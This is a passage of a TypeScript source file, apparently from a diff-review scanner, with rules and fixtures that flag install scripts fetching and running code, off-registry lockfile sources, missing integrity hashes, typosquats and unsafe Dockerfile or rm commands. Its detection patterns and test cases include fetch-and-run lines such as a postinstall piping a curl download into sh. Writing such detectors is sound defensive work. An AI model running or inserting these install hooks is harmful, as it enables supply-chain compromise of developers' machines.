/**
 * Dependencies and build: install scripts that fetch and run code, lockfile entries from
 * unexpected hosts or without integrity, names that look like typosquats of popular packages,
 * Dockerfiles piping downloads into a shell or switching back to root, and `rm -rf "$VAR/"…`
 * where the variable may be empty.
 */
import type { Edit, EditRule, EditRuleFinding } from '../rule';
import { atAfter, atBefore, hasKind, newlyAdded, reallyRemoved } from '../rule';
import type { Side } from '../types';
import { jsonChild, type JsonNode, jsonProps } from '../../formats/json';
import { jsonDoc, lineOfNode } from '../documents';
import { editDistance } from './text';

// ---------------------------------------------------------------------------------------------
// package.json install scripts

const LIFECYCLE = ['preinstall', 'install', 'postinstall', 'prepare', 'preprepare', 'postprepare', 'prepublish'] as const;
const FETCH_AND_RUN_RE =
  /\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|certutil|bitsadmin)\b|\bnode\s+(?:-e|--eval|-p|--print)\b|(?<!\|)\|(?!\|)\s*(?:sudo\s+)?(?:sh|bash|zsh|dash|node|python3?|perl|ruby|iex|Invoke-Expression)(?![\w-])|\b(?:ba)?sh\s+-c\b|\bpython3?\s+-c\b|\beval\b|base64\s+(?:-d|--decode)|https?:\/\/|\bnpx\s+(?:-y|--yes)\s+https?:/;

function isPackageJson(edit: Edit): boolean {
  return edit.file.name === 'package.json';
}

function scriptsOf(edit: Edit, side: Side): Map<string, { value: string; node: JsonNode }> {
  return edit.memo(`deps:scripts:${side}`, () => {
    const out = new Map<string, { value: string; node: JsonNode }>();
    const scripts = jsonChild(jsonDoc(edit, side).root, 'scripts');
    for (const [k, keyNode, v] of jsonProps(scripts)) {
      if (typeof v.value === 'string') out.set(k, { value: v.value, node: keyNode });
    }
    return out;
  });
}

// ---------------------------------------------------------------------------------------------
// Lockfiles

const KNOWN_REGISTRIES: ReadonlySet<string> = new Set(['registry.npmjs.org', 'registry.yarnpkg.com']);

interface LockEntry {
  key: string;
  keyLine: number;
  resolved?: string;
  resolvedLine?: number;
  integrity?: string;
}

function npmLockEntries(edit: Edit, side: Side): Map<string, LockEntry> {
  return edit.memo(`deps:npmlock:${side}`, () => {
    const out = new Map<string, LockEntry>();
    const root = jsonDoc(edit, side).root;
    const read = (key: string, keyNode: JsonNode, v: JsonNode): void => {
      const e: LockEntry = { key, keyLine: lineOfNode(edit, side, keyNode) };
      const r = jsonChild(v, 'resolved');
      if (r && typeof r.value === 'string') {
        e.resolved = r.value;
        e.resolvedLine = lineOfNode(edit, side, r);
      }
      const i = jsonChild(v, 'integrity');
      if (i && typeof i.value === 'string') e.integrity = i.value;
      out.set(key, e);
    };
    const packages = jsonChild(root, 'packages');
    if (packages) {
      for (const [k, keyNode, v] of jsonProps(packages)) if (k !== '') read(k, keyNode, v);
    } else {
      const walk = (deps: JsonNode | undefined, prefix: string, depth: number): void => {
        if (depth > 50) return;
        for (const [k, keyNode, v] of jsonProps(deps)) {
          read(prefix + k, keyNode, v);
          walk(jsonChild(v, 'dependencies'), `${prefix}${k}>`, depth + 1);
        }
      };
      walk(jsonChild(root, 'dependencies'), '', 0);
    }
    return out;
  });
}

function yarnLockEntries(edit: Edit, side: Side): Map<string, LockEntry> {
  return edit.memo(`deps:yarnlock:${side}`, () => {
    const out = new Map<string, LockEntry>();
    let cur: LockEntry | undefined;
    edit.lines(side).forEach((text, i) => {
      if (text.trim() === '' || text.trimStart().startsWith('#')) return;
      if (!/^\s/.test(text)) {
        cur = { key: text.replace(/:\s*$/, ''), keyLine: i + 1 };
        out.set(cur.key, cur);
        return;
      }
      if (!cur) return;
      const r = /^\s+resolved:?\s+"?([^"\s]+)"?/.exec(text);
      if (r) {
        cur.resolved = r[1]!;
        cur.resolvedLine = i + 1;
      }
      const integ = /^\s+(?:integrity|checksum):?\s+"?([^"\s]+)"?/.exec(text);
      if (integ) cur.integrity = integ[1]!;
    });
    return out;
  });
}

/** Where a lockfile URL points, or why it is a problem; undefined for registry and local entries. */
function sourceProblem(url: string, trustedHosts: ReadonlySet<string>): string | undefined {
  const u = url.trim();
  if (/^(git\+|git:|github:|gitlab:|bitbucket:|ssh:)/i.test(u)) return `is resolved from a git repository (${u.replace(/#.*$/, '').slice(0, 80)})`;
  if (!/^[a-z][a-z0-9+.-]*:\/\//i.test(u)) return undefined; // relative path: a workspace package
  let host: string;
  try {
    const parsed = new URL(u);
    if (parsed.protocol === 'file:') return undefined;
    host = parsed.host.toLowerCase();
    if (parsed.protocol === 'http:') return `is downloaded over plain http (no TLS) from ${host}`;
  } catch {
    return 'is resolved from an unparsable URL';
  }
  if (KNOWN_REGISTRIES.has(host) || trustedHosts.has(host)) return undefined;
  if (/^(codeload\.)?github\.com$|^gitlab\.com$|^bitbucket\.org$|^raw\.githubusercontent\.com$/.test(host)) return `is resolved from a tarball on ${host}, not the registry`;
  return `is resolved from ${host}, not a registry this lockfile used before`;
}

function hostsOf(entries: Iterable<LockEntry>): Map<string, number> {
  const hosts = new Map<string, number>();
  for (const e of entries) {
    if (!e.resolved || !/^https?:\/\//i.test(e.resolved)) continue;
    try {
      const h = new URL(e.resolved).host.toLowerCase();
      hosts.set(h, (hosts.get(h) ?? 0) + 1);
    } catch {
      // not a URL: ignored
    }
  }
  return hosts;
}

function lockSourceFindings(edit: Edit, before: Map<string, LockEntry>, after: Map<string, LockEntry>): EditRuleFinding[] {
  const beforeHosts = hostsOf(before.values());
  const trusted = new Set(beforeHosts.keys());
  if (edit.change === 'created') {
    // A new lockfile: a host that serves most of its entries is the project's registry.
    const afterHosts = hostsOf(after.values());
    const total = [...afterHosts.values()].reduce((a, b) => a + b, 0);
    for (const [h, n] of afterHosts) if (n * 2 > total) trusted.add(h);
  }
  const out: EditRuleFinding[] = [];
  for (const e of after.values()) {
    if (e.resolved === undefined || e.resolvedLine === undefined) continue;
    if (before.get(e.key)?.resolved === e.resolved) continue;
    if (!edit.isAdded(e.resolvedLine)) continue;
    const problem = sourceProblem(e.resolved, trusted);
    if (problem !== undefined) out.push(atAfter(e.resolvedLine, `${displayName(e.key)} ${problem}`));
  }
  return out;
}

function lockIntegrityFindings(edit: Edit, before: Map<string, LockEntry>, after: Map<string, LockEntry>): EditRuleFinding[] {
  const out: EditRuleFinding[] = [];
  let withResolved = 0;
  let withIntegrity = 0;
  for (const e of after.values()) {
    if (e.resolved === undefined) continue;
    withResolved++;
    if (e.integrity !== undefined) withIntegrity++;
  }
  const mostHaveIntegrity = withResolved > 0 && withIntegrity >= 0.8 * withResolved;
  for (const e of after.values()) {
    if (e.integrity !== undefined) continue;
    const prev = before.get(e.key);
    if (prev?.integrity !== undefined) {
      out.push(atAfter(e.keyLine, `the integrity hash of ${displayName(e.key)} was removed: its download is no longer verified`));
    } else if (prev === undefined && mostHaveIntegrity && e.resolved !== undefined && /^https?:/i.test(e.resolved) && edit.isAdded(e.keyLine)) {
      out.push(atAfter(e.keyLine, `${displayName(e.key)} was added without an integrity hash`));
    }
  }
  return out;
}

function displayName(key: string): string {
  const k = key.replace(/^"|"$/g, '');
  const nm = k.lastIndexOf('node_modules/');
  return nm >= 0 ? k.slice(nm + 'node_modules/'.length) : k.split(',')[0]!.trim();
}

function pnpmFindings(edit: Edit): { source: EditRuleFinding[]; integrity: EditRuleFinding[] } {
  return edit.memo('deps:pnpm', () => {
    const tarballRe = /tarball:\s*['"]?(\S+?)['"]?\s*[,}]?\s*$/;
    const trusted = new Set<string>();
    for (const l of edit.lines('before')) {
      const m = tarballRe.exec(l);
      if (m) {
        try {
          trusted.add(new URL(m[1]!).host.toLowerCase());
        } catch {
          // ignored
        }
      }
    }
    const source: EditRuleFinding[] = [];
    for (const l of newlyAdded(edit)) {
      const m = tarballRe.exec(l.text);
      if (!m) continue;
      const problem = sourceProblem(m[1]!, trusted);
      if (problem !== undefined) source.push(atAfter(l.line, `a package ${problem}`));
    }
    const integrity: EditRuleFinding[] = [];
    const count = (side: Side, re: RegExp): number => edit.lines(side).filter((l) => re.test(l)).length;
    const integRe = /\bintegrity:\s*\S/;
    const pkgRe = /^ {2}['"]?\/?(?:@[\w.-]+\/)?[\w.-]+[@/]\d[^:]*['"]?:\s*$/;
    const integDrop = count('before', integRe) - count('after', integRe);
    const pkgDrop = count('before', pkgRe) - count('after', pkgRe);
    if (integDrop > 0 && integDrop > pkgDrop) {
      const first = reallyRemoved(edit).find((l) => integRe.test(l.text));
      if (first) integrity.push(atBefore(first.line, `${integDrop - Math.max(0, pkgDrop)} integrity hash(es) removed while the packages stay`));
    }
    return { source, integrity };
  });
}

// ---------------------------------------------------------------------------------------------
// Typosquats

const POPULAR_NPM = [
  'lodash', 'express', 'react', 'react-dom', 'axios', 'chalk', 'commander', 'debug', 'moment', 'request', 'typescript',
  'webpack', 'eslint', 'prettier', 'mocha', 'jquery', 'underscore', 'dotenv', 'yargs', 'minimist', 'async', 'bluebird',
  'body-parser', 'mongoose', 'socket.io', 'node-fetch', 'colors', 'color', 'cross-env', 'electron', 'rimraf', 'semver',
  'redux', 'classnames', 'prop-types', 'tslib', 'rxjs', 'core-js', 'esbuild', 'fs-extra', 'inquirer', 'nodemon',
  'puppeteer', 'sharp', 'jsonwebtoken', 'bcrypt', 'bcryptjs', 'crypto-js', 'discord.js', 'mysql', 'mysql2', 'redis',
  'sqlite3', 'graphql', 'angular', 'svelte', 'preact', 'tslint', 'nodemailer', 'passport', 'helmet', 'morgan', 'winston',
  'dayjs', 'date-fns', 'luxon', 'ramda', 'immer', 'mobx', 'styled-components', 'tailwindcss', 'postcss', 'autoprefixer',
  'handlebars', 'cheerio', 'jsdom', 'jsdoc', 'supertest', 'sinon', 'ts-node', 'vitest', 'playwright', 'cypress', 'husky',
  'lint-staged', 'concurrently', 'npm-run-all', 'js-yaml', 'validator', 'cookie-parser', 'express-session', 'multer',
  'formidable', 'sequelize', 'typeorm', 'prisma', 'mongodb', 'ioredis', 'kafkajs', 'aws-sdk', 'firebase', 'stripe',
  'twilio', 'openai', 'react-router', 'react-router-dom', 'next-auth', 'webpack-cli', 'babel-loader', 'css-loader',
  'style-loader', 'html-webpack-plugin', 'terser', 'uglify-js', 'uglify-es', 'coffee-script', 'event-stream',
  'ua-parser-js', 'minimatch', 'chokidar', 'execa', 'node-gyp', 'shelljs', 'nanoid', 'uuid', 'zod', 'ethers', 'web3',
  'jest', 'vite', 'vue', 'next', 'nuxt', 'koa', 'hapi', 'fastify', 'nestjs', 'socket.io-client', 'qrcode', 'marked',
  'highlight.js', 'serve', 'http-server', 'babel-cli', 'babel-core', 'babel-preset-env', 'eslint-plugin-react',
  'eslint-config-prettier', 'ts-jest', 'class-validator', 'reflect-metadata', 'pino', 'ajv', 'yaml', 'glob', 'cors',
  // Legitimate neighbours of the names above (kept here so they are never reported).
  'coffeescript', 'eclint', 'npm-run-all2', 'colorette', 'chai', 'webpack-merge',
];
const POPULAR_PYPI = [
  'requests', 'numpy', 'pandas', 'django', 'flask', 'urllib3', 'setuptools', 'boto3', 'boto', 'botocore', 'pyyaml', 'pyaml',
  'matplotlib', 'scipy', 'scapy', 'scrapy', 'beautifulsoup4', 'pillow', 'cryptography', 'python-dateutil', 'colorama',
  'tensorflow', 'torch', 'scikit-learn', 'jinja2', 'jinja', 'sqlalchemy', 'pytest', 'fastapi', 'uvicorn', 'pydantic',
  'httpx', 'aiohttp', 'celery', 'redis', 'psycopg2', 'psycopg2-binary', 'psycopg', 'pymongo', 'selenium', 'openai',
  'certifi', 'idna', 'charset-normalizer', 'attrs', 'attr', 'click', 'tqdm', 'gunicorn', 'werkzeug', 'pyjwt', 'paramiko',
  'docker', 'kubernetes', 'ansible', 'pip', 'wheel', 'virtualenv', 'black', 'flake8', 'mypy', 'pylint', 'isort',
  'keras', 'opencv-python', 'lxml', 'openpyxl', 'xlrd', 'markdown', 'pygments', 'simplejson', 'ujson', 'protobuf', 'grpcio',
];
const POPULAR_SCOPES = [
  '@types', '@babel', '@angular', '@aws-sdk', '@typescript-eslint', '@vue', '@nestjs', '@mui', '@emotion',
  '@testing-library', '@vitejs', '@sveltejs', '@prisma', '@azure', '@google-cloud', '@octokit', '@vscode', '@jest',
  '@eslint', '@storybook', '@tanstack', '@reduxjs', '@apollo', '@sentry', '@radix-ui', '@tailwindcss',
];
const NPM_SET = new Set(POPULAR_NPM);
const PYPI_SET = new Set(POPULAR_PYPI);
const SCOPE_SET = new Set(POPULAR_SCOPES);

/** The popular name a new dependency imitates, and how; undefined when it does not look like one. */
export function typosquatOf(name: string, ecosystem: 'npm' | 'pypi'): { target: string; how: string } | undefined {
  const raw = name.trim();
  if (ecosystem === 'npm' && raw.startsWith('@')) {
    const scope = raw.split('/')[0]!.toLowerCase();
    if (SCOPE_SET.has(scope) || scope.length < 5) return undefined;
    // Scopes: only the tricks (swapped, doubled or dropped letters, look-alike digits); a different
    // letter makes a different word (`@test` is not `@jest`).
    const homoglyph = (x: string): string => x.replace(/1/g, 'l').replace(/0/g, 'o').replace(/rn/g, 'm');
    for (const s of POPULAR_SCOPES) {
      if (editDistance(scope, s, 1) !== 1) continue;
      const sameLetters = [...scope].sort().join('') === [...s].sort().join('');
      if (scope.length !== s.length || sameLetters || homoglyph(scope) === s) {
        return { target: `${s}/${raw.split('/')[1] ?? ''}`, how: `scope ${scope} looks like ${s}` };
      }
    }
    return undefined;
  }
  const pep503 = (s: string): string => s.toLowerCase().replace(/[-_.]+/g, '-');
  const n = ecosystem === 'pypi' ? pep503(raw) : raw.toLowerCase();
  const list = ecosystem === 'npm' ? POPULAR_NPM : POPULAR_PYPI;
  const set = ecosystem === 'npm' ? NPM_SET : PYPI_SET;
  if (set.has(n)) return undefined;
  if (ecosystem === 'npm') {
    const sep = (s: string): string => s.replace(/[-_.]/g, '');
    for (const p of list) {
      if (p.length >= 5 && sep(p) === sep(n) && p !== n) return { target: p, how: 'separators changed' };
    }
  }
  let best: { target: string; d: number } | undefined;
  for (const p of list) {
    if (p.length < 5) continue; // short names sit next to many legitimate ones
    if (n.startsWith(p) && /^\d+$/.test(n.slice(p.length))) continue; // a numbered fork or major: mysql2, npm-run-all2
    const max = p.length >= 8 ? 2 : 1;
    const d = editDistance(n, p, max);
    if (d >= 1 && d <= max && (best === undefined || d < best.d)) best = { target: p, d };
  }
  if (!best) return undefined;
  return { target: best.target, how: best.d === 1 ? 'one character away' : 'two characters away' };
}

const DEP_SECTIONS = ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies'];

function npmDeps(edit: Edit, side: Side): Map<string, number> {
  return edit.memo(`deps:npmdeps:${side}`, () => {
    const out = new Map<string, number>();
    const root = jsonDoc(edit, side).root;
    for (const section of DEP_SECTIONS) {
      for (const [k, keyNode] of jsonProps(jsonChild(root, section))) out.set(k, lineOfNode(edit, side, keyNode));
    }
    return out;
  });
}

const REQ_LINE_RE = /^\s*([A-Za-z0-9][A-Za-z0-9._-]*)\s*(?:\[[^\]]*\])?\s*(?:[<>=!~;@]|$)/;
const PYPROJECT_DEP_RE = /^\s*["']([A-Za-z0-9][A-Za-z0-9._-]*)\s*(?:\[[^\]]*\])?\s*(?:[<>=!~;@][^"']*)?["']\s*,?\s*$/;

function pythonDeps(edit: Edit, side: Side): Map<string, number> {
  return edit.memo(`deps:pydeps:${side}`, () => {
    const out = new Map<string, number>();
    const re = edit.file.name === 'pyproject.toml' ? PYPROJECT_DEP_RE : REQ_LINE_RE;
    edit.lines(side).forEach((l, i) => {
      if (/^\s*(#|-)/.test(l)) return;
      const m = re.exec(l);
      if (m) out.set(m[1]!.toLowerCase().replace(/[-_.]+/g, '-'), i + 1);
    });
    return out;
  });
}

// ---------------------------------------------------------------------------------------------
// Dockerfiles

interface Instruction {
  keyword: string;
  /** Joined text of the instruction (continuations merged). */
  text: string;
  line: number;
  lines: { line: number; text: string }[];
}

function instructions(edit: Edit, side: Side): Instruction[] {
  return edit.memo(`deps:docker:${side}`, () => {
    const out: Instruction[] = [];
    let cur: Instruction | undefined;
    edit.lines(side).forEach((text, i) => {
      const line = i + 1;
      if (cur) {
        if (!/^\s*#/.test(text)) {
          cur.lines.push({ line, text });
          cur.text += ' ' + text.trim().replace(/\\$/, '');
        }
        if (!/\\\s*$/.test(text)) cur = undefined;
        return;
      }
      if (text.trim() === '' || /^\s*#/.test(text)) return;
      const m = /^\s*([A-Za-z]+)\b/.exec(text);
      if (!m) return;
      const ins: Instruction = { keyword: m[1]!.toUpperCase(), text: text.trim().replace(/\\\s*$/, ''), line, lines: [{ line, text }] };
      out.push(ins);
      if (/\\\s*$/.test(text)) cur = ins;
    });
    return out;
  });
}

const PIPE_TO_SHELL_RE =
  /\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+\S+=\S+\s+)*(?:ba|z|da|k|a)?sh\b|\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:python3?|perl|ruby|node)\b|\b(?:ba)?sh\s+-c\s+["']?\$\((?:curl|wget)\b|\b(?:ba)?sh\s+<\(\s*(?:curl|wget)\b/;

function isRootUser(spec: string): boolean {
  const user = spec.trim().split(/\s+/)[0]!.split(':')[0]!.replace(/^["']|["']$/g, '');
  return user === 'root' || user === '0';
}

/**
 * The USER in force at the end of the last stage (the image that runs), the instruction that set
 * it, and whether a non-root USER came earlier in that stage.
 */
function finalUser(edit: Edit, side: Side): { root: boolean; ins?: Instruction; earlierNonRoot: boolean } {
  const ins = instructions(edit, side);
  let lastFrom = -1;
  ins.forEach((x, i) => {
    if (x.keyword === 'FROM') lastFrom = i;
  });
  let user: Instruction | undefined;
  let earlierNonRoot = false;
  for (let i = lastFrom + 1; i < ins.length; i++) {
    if (ins[i]!.keyword !== 'USER') continue;
    if (user && !isRootUser(user.text.slice(4))) earlierNonRoot = true;
    user = ins[i];
  }
  return { root: user === undefined || isRootUser(user.text.slice(4)), ins: user, earlierNonRoot };
}

// ---------------------------------------------------------------------------------------------
// rm -rf "$VAR/"…

const SAFE_VARS = new Set(['HOME', 'PWD', 'CURDIR', 'GITHUB_WORKSPACE', 'RUNNER_TEMP', 'RUNNER_TOOL_CACHE', 'CI_PROJECT_DIR']);

interface UnguardedRm {
  name: string;
  arg: string;
  /** The path left when the variable is empty (`/*`, `/usr/lib`). */
  rest: string;
  root: boolean;
}

/** Shell words of an `rm` argument list, quotes kept, stopping at the end of the command. */
function words(s: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i < s.length) {
    while (i < s.length && /\s/.test(s[i]!)) i++;
    if (i >= s.length) break;
    if (/[;&|)`\n]/.test(s[i]!)) break;
    let w = '';
    while (i < s.length && !/[\s;&|)`]/.test(s[i]!)) {
      const c = s[i]!;
      if (c === '"' || c === "'") {
        const end = s.indexOf(c, i + 1);
        const stop = end === -1 ? s.length : end + 1;
        w += s.slice(i, stop);
        i = stop;
      } else if (c === '$' && (s[i + 1] === '(' || s[i + 1] === '{')) {
        const close = s[i + 1] === '(' ? ')' : '}';
        const end = s.indexOf(close, i + 2);
        const stop = end === -1 ? s.length : end + 1;
        w += s.slice(i, stop);
        i = stop;
      } else {
        w += c;
        i++;
      }
    }
    out.push(w);
  }
  return out;
}

function unguardedRms(text: string, make: boolean): UnguardedRm[] {
  const out: UnguardedRm[] = [];
  const re = /(?:^|[\s;&|({`"'@]|^\s*-)rm\s+/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(text)) !== null) {
    const ws = words(text.slice(m.index + m[0].length));
    let recursive = false;
    const args: string[] = [];
    let endOfFlags = false;
    for (const w of ws) {
      if (!endOfFlags && w === '--') {
        endOfFlags = true;
      } else if (!endOfFlags && /^-[A-Za-z]+$/.test(w)) {
        if (/[rR]/.test(w)) recursive = true;
      } else if (!endOfFlags && w.startsWith('--')) {
        if (w === '--recursive') recursive = true;
      } else {
        args.push(w);
      }
    }
    if (!recursive) continue;
    for (const a of args) {
      const v = make
        ? /^(["']?)\$(?:\(([A-Za-z_]\w*)\)|\{([A-Za-z_]\w*)\}|\$\{?([A-Za-z_]\w*|\d)\}?)\1?(["']?)(\/.*)?$/.exec(a)
        : /^(["']?)\$(?:\{([A-Za-z_]\w*|\d)\}|([A-Za-z_]\w*|\d))()\1?(["']?)(\/.*)?$/.exec(a);
      if (!v) continue;
      const name = v[2] ?? v[3] ?? v[4] ?? '';
      const rest = (v[6] ?? '').replace(/["']/g, '');
      if (name === '' || !rest.startsWith('/') || SAFE_VARS.has(name)) continue;
      out.push({ name, arg: a, rest, root: /^\/(?:\*|\.\*?|)$/.test(rest) });
    }
  }
  return out;
}

function guardedVars(edit: Edit): (name: string) => boolean {
  const text = edit.after ?? '';
  return (name: string) => {
    const n = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    if (new RegExp(`\\$\\{${n}:?[?]`).test(text)) return true;
    if (new RegExp(`-[zn]\\s+["']?\\$\\{?${n}\\}?["']?`).test(text)) return true;
    // An assignment of a literal, a default or a command substitution makes it non-empty.
    const assign = new RegExp(`^\\s*(?:export\\s+|local\\s+|readonly\\s+|declare\\s+(?:-\\w+\\s+)*|ENV\\s+|ARG\\s+)?${n}[ \\t]*(?:[:?+]?=|[ \\t])[ \\t]*(\\S*)`, 'm');
    const a = assign.exec(text);
    if (a) {
      const val = a[1]!.replace(/^["']/, '');
      if (val !== '' && (!val.startsWith('$') || val.startsWith('$(') || /^\$\{\w+:-[^}]+\}/.test(val))) return true;
    }
    return false;
  };
}

/** Lines of a file that hold shell commands, with their text. */
function shellLines(edit: Edit): { line: number; text: string }[] {
  const fresh = newlyAdded(edit);
  if (hasKind(edit, 'makefile')) return fresh.filter((l) => l.text.startsWith('\t'));
  if (hasKind(edit, 'dockerfile')) {
    const run = new Set<number>();
    for (const ins of instructions(edit, 'after')) if (ins.keyword === 'RUN') for (const l of ins.lines) run.add(l.line);
    return fresh.filter((l) => run.has(l.line));
  }
  if (isPackageJson(edit)) {
    const out: { line: number; text: string }[] = [];
    for (const l of fresh) {
      const m = /^\s*"[^"]+"\s*:\s*"((?:[^"\\]|\\.)*)"/.exec(l.text);
      if (!m || !/\brm\b/.test(m[1]!)) continue;
      try {
        out.push({ line: l.line, text: JSON.parse(`"${m[1]!}"`) as string });
      } catch {
        out.push({ line: l.line, text: m[1]! });
      }
    }
    return out;
  }
  if (hasKind(edit, 'package-manifest')) return [];
  return fresh.filter((l) => !/^\s*#/.test(l.text));
}

// ---------------------------------------------------------------------------------------------

const pkg = (scripts: Record<string, string>, deps: Record<string, string> = {}): string =>
  JSON.stringify({ name: 'web', version: '1.0.0', scripts, dependencies: deps }, null, 2) + '\n';

export const depsRules: EditRule[] = [
  {
    id: 'deps.install-script',
    description: 'A package.json install-time script (preinstall, install, postinstall, prepare) now downloads or evaluates code.',
    severity: 'critical',
    suggestion: 'Do not fetch and run code at install time; add the tool as a pinned dependency or a reviewed script in the repository.',
    kinds: ['package-manifest'],
    examples: {
      match: [
        {
          name: 'postinstall pipes a download into sh',
          path: 'package.json',
          before: pkg({ build: 'tsc' }),
          after: pkg({ build: 'tsc', postinstall: 'curl -fsSL https://cdn.setup-tools.io/i.sh | sh' }),
          line: 6,
          side: 'after',
        },
        {
          name: 'preinstall runs inline node',
          path: 'packages/api/package.json',
          before: pkg({ preinstall: 'node scripts/check-node.js' }),
          after: pkg({ preinstall: "node -e \"require('child_process').execSync('sh ./x')\"" }),
          line: 5,
          side: 'after',
        },
      ],
      nearMiss: [
        { name: 'husky prepare', path: 'package.json', before: pkg({ build: 'tsc' }), after: pkg({ build: 'tsc', prepare: 'husky' }) },
        { name: 'patch-package postinstall', path: 'package.json', before: pkg({}), after: pkg({ postinstall: 'patch-package' }) },
        { name: 'download in a non-lifecycle script', path: 'package.json', before: pkg({}), after: pkg({ 'fetch:data': 'curl -o data.json https://example.org/d.json' }) },
        {
          name: 'unchanged risky script, other edit',
          path: 'package.json',
          before: pkg({ postinstall: 'node -e "console.log(1)"', build: 'tsc' }),
          after: pkg({ postinstall: 'node -e "console.log(1)"', build: 'tsc -p .' }),
        },
      ],
    },
    check(edit) {
      if (!isPackageJson(edit) || edit.after === null) return undefined;
      const before = scriptsOf(edit, 'before');
      const after = scriptsOf(edit, 'after');
      const out: EditRuleFinding[] = [];
      for (const name of LIFECYCLE) {
        const a = after.get(name);
        if (!a || before.get(name)?.value === a.value || !FETCH_AND_RUN_RE.test(a.value)) continue;
        out.push(atAfter(lineOfNode(edit, 'after', a.node), `the "${name}" script runs on every install and now fetches or evaluates code`));
      }
      return out;
    },
  },
  {
    id: 'deps.lockfile-source',
    description: 'A lockfile entry is now resolved from a host that is not the registry (git, a tarball URL, plain http, an unknown host).',
    severity: 'high',
    suggestion: 'Install from the registry the project uses (npm install <name>@<version>) and check why the lockfile points elsewhere.',
    kinds: ['lockfile'],
    examples: {
      match: [
        {
          name: 'package-lock entry from an unknown host',
          path: 'package-lock.json',
          before:
            '{\n  "lockfileVersion": 3,\n  "packages": {\n    "node_modules/left-pad": {\n      "version": "1.3.0",\n      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",\n      "integrity": "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQEVZ6J3o6kO+Lk0t2BYgbLLIzuT8ZRBw+D4bBnmlSL2hS7A=="\n    }\n  }\n}\n',
          after:
            '{\n  "lockfileVersion": 3,\n  "packages": {\n    "node_modules/left-pad": {\n      "version": "1.3.1",\n      "resolved": "https://npm-cache.dl-mirror.xyz/left-pad/-/left-pad-1.3.1.tgz",\n      "integrity": "sha512-m3W9pGbJeBzWKhXgDyFJYwB7qT9VdRxE0sN4cA1uZoLiP6aHrK8vQe2MnYtSgF5jwO3XbDlUcIhEp7RzNfVkAQ=="\n    }\n  }\n}\n',
          line: 6,
          side: 'after',
        },
        {
          name: 'yarn.lock entry from a GitHub tarball',
          path: 'yarn.lock',
          before: 'chalk@^4.1.0:\n  version "4.1.2"\n  resolved "https://registry.yarnpkg.com/chalk/-/chalk-4.1.2.tgz#abc"\n  integrity sha512-oKnbhFyRIXpUuez8iBMmyEa4nbj4IOQyuhc/wy9kY7/WVPcwIO9VA668Pu8RkO7+0G76SLROeyw9CpQ061i4mA==\n',
          after: 'chalk@^4.1.0:\n  version "4.1.2"\n  resolved "https://codeload.github.com/chalk-dev/chalk/tar.gz/8a1f3c2"\n  integrity sha512-oKnbhFyRIXpUuez8iBMmyEa4nbj4IOQyuhc/wy9kY7/WVPcwIO9VA668Pu8RkO7+0G76SLROeyw9CpQ061i4mA==\n',
          line: 3,
          side: 'after',
        },
      ],
      nearMiss: [
        {
          name: 'version bump on the registry',
          path: 'yarn.lock',
          before: 'chalk@^4.1.0:\n  version "4.1.1"\n  resolved "https://registry.yarnpkg.com/chalk/-/chalk-4.1.1.tgz#a"\n  integrity sha512-aaa\n',
          after: 'chalk@^4.1.0:\n  version "4.1.2"\n  resolved "https://registry.yarnpkg.com/chalk/-/chalk-4.1.2.tgz#b"\n  integrity sha512-bbb\n',
        },
        {
          name: 'private registry already in use',
          path: 'package-lock.json',
          before: '{\n  "packages": {\n    "node_modules/@acme/ui": { "resolved": "https://npm.pkg.github.com/download/@acme/ui/1.0.0/a.tgz", "integrity": "sha512-a" }\n  }\n}\n',
          after: '{\n  "packages": {\n    "node_modules/@acme/ui": { "resolved": "https://npm.pkg.github.com/download/@acme/ui/1.1.0/b.tgz", "integrity": "sha512-b" }\n  }\n}\n',
        },
        { name: 'workspace link', path: 'package-lock.json', before: '{ "packages": {} }\n', after: '{ "packages": {\n  "node_modules/@acme/lib": { "resolved": "packages/lib", "link": true }\n} }\n' },
      ],
    },
    check(edit) {
      if (edit.after === null) return undefined;
      const name = edit.file.name.toLowerCase();
      if (name === 'package-lock.json' || name === 'npm-shrinkwrap.json') {
        return lockSourceFindings(edit, npmLockEntries(edit, 'before'), npmLockEntries(edit, 'after'));
      }
      if (name === 'yarn.lock') return lockSourceFindings(edit, yarnLockEntries(edit, 'before'), yarnLockEntries(edit, 'after'));
      if (name === 'pnpm-lock.yaml') return pnpmFindings(edit).source;
      return undefined;
    },
  },
  {
    id: 'deps.lockfile-integrity-removed',
    description: 'A lockfile entry lost its integrity hash (or a new one has none), so the download is no longer verified.',
    severity: 'high',
    suggestion: 'Regenerate the lockfile with the package manager (npm install / yarn / pnpm install) instead of editing it.',
    kinds: ['lockfile'],
    examples: {
      match: [
        {
          name: 'integrity dropped from package-lock',
          path: 'package-lock.json',
          before: '{\n  "packages": {\n    "node_modules/ms": {\n      "version": "2.1.3",\n      "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz",\n      "integrity": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA=="\n    }\n  }\n}\n',
          after: '{\n  "packages": {\n    "node_modules/ms": {\n      "version": "2.1.3",\n      "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"\n    }\n  }\n}\n',
          line: 3,
          side: 'after',
        },
      ],
      nearMiss: [
        {
          name: 'package removed with its hash',
          path: 'package-lock.json',
          before: '{\n  "packages": {\n    "node_modules/ms": { "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", "integrity": "sha512-a" }\n  }\n}\n',
          after: '{\n  "packages": {}\n}\n',
        },
      ],
    },
    check(edit) {
      if (edit.after === null) return undefined;
      const name = edit.file.name.toLowerCase();
      if (name === 'package-lock.json' || name === 'npm-shrinkwrap.json') {
        return lockIntegrityFindings(edit, npmLockEntries(edit, 'before'), npmLockEntries(edit, 'after'));
      }
      if (name === 'yarn.lock') return lockIntegrityFindings(edit, yarnLockEntries(edit, 'before'), yarnLockEntries(edit, 'after'));
      if (name === 'pnpm-lock.yaml') return pnpmFindings(edit).integrity;
      return undefined;
    },
  },
